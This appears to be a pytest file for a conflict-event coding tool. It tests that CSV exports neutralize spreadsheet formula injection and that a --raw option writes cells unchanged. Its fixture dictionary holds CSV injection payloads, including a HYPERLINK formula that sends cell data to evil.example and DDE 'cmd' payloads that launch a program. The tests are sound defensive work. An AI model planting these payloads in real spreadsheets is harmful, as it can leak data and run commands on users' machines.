"""CSV exports safe to open in a spreadsheet: formula injection neutralized, numbers kept, ``--raw``.

Outlet names, article ids, headlines and notes arrive from feeds as they are; a cell starting with
``=``, ``+``, ``-``, ``@``, tab or CR runs as a formula in Excel or LibreOffice. Every CSV writer
(``export --format acled-csv``/``ucdp-csv``, ``code --format csv``) puts a ``'`` in front of such a
text cell, leaves numbers alone, and writes everything as it arrived with ``--raw``.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from dateline.cli.main import main
from dateline.export.formats import write_events
from dateline.export.safety import FORMULA_PREFIXES, neutralize, safe_row
from dateline.model import Article, Event, events_to_csv
from dateline.store import Store

DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def hostile_event(prefix: str, article_id: str | None = None) -> Event:
    """A fatal battle whose outlet, id, notes, actors and places all start with ``prefix``'s payload."""
    payload = DANGEROUS[prefix]
    return Event(
        article_id=article_id or payload,
        event_date="2024-04-02",
        time_precision=1,
        disorder_type="Political violence",
        event_type="Battles",
        sub_event_type="Armed clash",
        actor1=payload + " actor",
        actor2="Military Forces of Peru",
        iso=604,
        iso2="PE",
        country="Peru",
        admin1=payload + " admin1",
        location=payload + " town",
        latitude=-12.3,
        longitude=-76.5,
        geo_precision=1,
        fatalities=3,
        source=payload + " outlet",
        notes=payload + " notes",
    )


def rows(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_neutralize_every_formula_prefix_and_only_text() -> None:
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    for payload in DANGEROUS.values():
        assert neutralize(payload) == "'" + payload
    assert neutralize("Reuters; =not at the start") == "Reuters; =not at the start"
    assert neutralize("") == "" and neutralize(None) is None
    assert neutralize(-12.3) == -12.3 and neutralize(-5) == -5 and neutralize(False) is False
    assert safe_row({"latitude": -12.3, "source": "=1+1", "fatalities": 0}) == {
        "latitude": -12.3,
        "source": "'=1+1",
        "fatalities": 0,
    }


@pytest.mark.parametrize("prefix", list(DANGEROUS))
def test_acled_csv_neutralizes_text_cells_and_keeps_numbers(prefix: str) -> None:
    payload = DANGEROUS[prefix]
    buf = io.BytesIO()
    assert write_events([hostile_event(prefix)], "acled-csv", buf) == 1
    [row] = rows(buf.getvalue().decode("utf-8"))
    for col, suffix in (("article_id", ""), ("source", " outlet"), ("notes", " notes"), ("actor1", " actor"),
                        ("admin1", " admin1"), ("location", " town"), ("article_ids", "")):  # fmt: skip
        assert row[col] == "'" + payload + suffix, col
    assert row["latitude"] == "-12.3" and float(row["latitude"]) == -12.3
    assert row["longitude"] == "-76.5" and row["fatalities"] == "3" and row["iso"] == "604"
    raw = io.BytesIO()
    write_events([hostile_event(prefix)], "acled-csv", raw, raw=True)
    [row] = rows(raw.getvalue().decode("utf-8"))
    assert row["article_id"] == payload and row["source"] == payload + " outlet"
    assert row["notes"] == payload + " notes" and row["latitude"] == "-12.3"


@pytest.mark.parametrize("prefix", list(DANGEROUS))
def test_ucdp_csv_neutralizes_text_cells_and_keeps_numbers(prefix: str) -> None:
    payload = DANGEROUS[prefix]
    buf = io.BytesIO()
    assert write_events([hostile_event(prefix)], "ucdp-csv", buf) == 1
    [row] = rows(buf.getvalue().decode("utf-8"))
    assert row["source_article"] == "'" + payload
    assert row["source_headline"] == "'" + payload + " outlet"
    assert row["adm_1"] == "'" + payload + " admin1"
    assert row["side_b"] == "'" + payload + " actor"  # the government goes on side A
    assert row["latitude"] == "-12.3" and row["longitude"] == "-76.5" and row["best"] == "3"
    raw = io.BytesIO()
    write_events([hostile_event(prefix)], "ucdp-csv", raw, raw=True)
    [row] = rows(raw.getvalue().decode("utf-8"))
    assert row["source_article"] == payload and row["source_headline"] == payload + " outlet"


def test_events_to_csv_the_code_command_writer() -> None:
    [row] = rows(events_to_csv([hostile_event("=")]))
    assert row["article_id"] == "'" + DANGEROUS["="] and row["latitude"] == "-12.3"
    [row] = rows(events_to_csv([hostile_event("=")], raw=True))
    assert row["article_id"] == DANGEROUS["="]


def test_json_formats_are_not_touched() -> None:
    buf = io.BytesIO()
    write_events([hostile_event("=")], "plover-jsonl", buf)
    rec = json.loads(buf.getvalue())
    assert rec["source"] == DANGEROUS["="] + " outlet" and rec["article_ids"] == [DANGEROUS["="]]


@pytest.fixture()
def hostile_store(tmp_path: Path) -> str:
    """A store holding one report per dangerous prefix, in six different places (no merging)."""
    url = f"sqlite:///{tmp_path / 'store.db'}"
    with Store.open(url) as store:
        for i, prefix in enumerate(DANGEROUS):
            ev = hostile_event(prefix, article_id=DANGEROUS[prefix] + f" #{i}")
            ev.latitude, ev.longitude = -12.3 - i, -76.5 - i  # 100+ km apart: six events
            ev.location = DANGEROUS[prefix] + f" town {i}"
            store.write_article(
                Article(id=ev.article_id, text="x", published=date(2024, 4, 2)), f"h{i}", [ev]
            )
    return url


def test_export_command_neutralizes_and_raw_writes_as_is(
    hostile_store: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for fmt in ("acled-csv", "ucdp-csv"):
        assert main(["export", "--format", fmt, "--db", hostile_store]) == 0
        safe = rows(capsys.readouterr().out)
        assert main(["export", "--format", fmt, "--db", hostile_store, "--raw"]) == 0
        raw = rows(capsys.readouterr().out)
        assert len(safe) == len(raw) == 6
        id_col, outlet_col = (
            ("article_id", "source") if fmt == "acled-csv" else ("source_article", "source_headline")
        )
        ids = [f"{p} #{i}" for i, p in enumerate(DANGEROUS.values())]
        assert sorted(r[id_col] for r in safe) == sorted("'" + i for i in ids)
        assert all(r[outlet_col].startswith("'") for r in safe)
        assert sorted(r[id_col] for r in raw) == sorted(ids)
        assert all(r[outlet_col].startswith(tuple(DANGEROUS.values())) for r in raw)
        for r in safe:  # numbers stay numbers, negative ones included
            assert float(r["latitude"]) <= -12.3 and float(r["longitude"]) <= -76.5
        if fmt == "acled-csv":
            assert all(r["notes"].startswith("'") and r["fatalities"] == "3" for r in safe)
            assert all(r["report_keys"].startswith("'") for r in safe)  # keys start with the article id


def test_export_command_through_a_real_process(hostile_store: str) -> None:
    cmd = [
        sys.executable,
        "-m",
        "dateline.cli.main",
        "export",
        "--format",
        "acled-csv",
        "--db",
        hostile_store,
    ]
    out = subprocess.run(cmd, capture_output=True, timeout=120, check=True).stdout.decode("utf-8")
    assert {r["source"][:2] for r in rows(out)} == {"'" + p[0] for p in DANGEROUS.values()}
    out = subprocess.run([*cmd, "--raw"], capture_output=True, timeout=120, check=True).stdout.decode("utf-8")
    assert {r["source"][:1] for r in rows(out)} == {p[0] for p in DANGEROUS.values()}


REPORT = (
    "MOGADISHU: Al-Shabaab fighters attacked an army base in the town of Balcad on Tuesday, "
    "killing five soldiers, a military officer said. – Reuters"
)


def test_code_command_csv_neutralizes_and_raw(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = tmp_path / "in.jsonl"
    article_id = DANGEROUS["="]
    src.write_text(json.dumps({"id": article_id, "text": REPORT, "published": "2024-04-02"}) + "\n")
    assert main(["code", str(src), "--format", "csv", "--workers", "1"]) == 0
    [row] = rows(capsys.readouterr().out)
    assert row["article_id"] == "'" + article_id and row["fatalities"] == "5"
    assert main(["code", str(src), "--format", "csv", "--workers", "1", "--raw"]) == 0
    [row] = rows(capsys.readouterr().out)
    assert row["article_id"] == article_id
